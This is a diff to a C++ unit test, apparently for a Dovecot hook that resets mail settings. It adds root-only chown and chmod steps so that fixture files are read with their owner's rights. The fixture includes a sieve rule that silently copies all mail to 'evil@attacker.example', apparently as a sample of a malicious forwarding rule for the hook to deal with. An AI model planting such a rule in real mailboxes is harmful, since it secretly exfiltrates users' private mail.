@@ -92,6 +92,13 @@ TEST(DovecotHook, ResetKeepsOtherLinesModeAndFlushesAndKicks) {
   ::mkdir((dir.path() + "/bob").c_str(), 0700);
   ::mkdir((dir.path() + "/bob/sieve").c_str(), 0700);
   dir.File("bob/sieve/x.sieve", "require \"copy\";\nredirect :copy \"evil@attacker.example\";\n");
+  if (::geteuid() == 0) {
+    // The home is read with its owner's rights (uid 1000 from the entry), never as root.
+    ::chmod(dir.path().c_str(), 0755);
+    for (const char* p : {"/bob", "/bob/sieve", "/bob/sieve/x.sieve"}) {
+      ASSERT_EQ(::chown((dir.path() + p).c_str(), 1000, 1000), 0);
+    }
+  }
   RecordingRunner runner;
   DovecotHook hook({passwd, CryptScheme::kSha512Crypt, "/usr/bin/doveadm", "/lab/dovecot.conf", ""},
                    runner);
